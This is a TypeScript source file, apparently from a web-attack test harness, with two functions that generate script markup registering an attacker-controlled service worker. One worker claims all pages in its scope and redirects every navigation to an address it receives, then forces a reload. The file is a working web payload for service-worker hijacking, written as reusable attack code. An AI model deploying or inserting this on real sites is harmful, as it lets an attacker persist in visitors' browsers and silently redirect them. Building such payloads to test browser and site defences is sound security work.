import { script } from './markup';

/**
 * A service worker of the attacker's own writing, which is told the address once it runs.
 * @param code its script; `data` of its message is the address
 * @param scope the pages that it has power over
 */
export function ownWorker(code: string, scope: string): string {
  const source = JSON.stringify(`/script?code=${encodeURIComponent(code)}`);
  return script(
    `navigator.serviceWorker.register(${source}, { scope: '${scope}' }).then(async (registration) => {
      const worker = registration.active ?? registration.waiting ?? registration.installing;
      while (registration.active === null) await new Promise((done) => (worker.onstatechange = done));
      registration.active.postMessage('{url}');
    })`,
  );
}

/**
 * A service worker that answers the reload of its page with a redirect.
 * @param scope one of its own for each vector: a worker stays, with the address that it was told
 */
export function redirectingWorker(scope: string): string {
  return ownWorker(
    `let target;
    onmessage = async ({ data, source }) => {
      target = data;
      await clients.claim();
      source.postMessage('reload');
    };
    onfetch = (event) => {
      if (event.request.mode === 'navigate') event.respondWith(Response.redirect(target));
    };`,
    scope,
  ).replace('<script>', '<script>navigator.serviceWorker.onmessage = () => location.reload();');
}
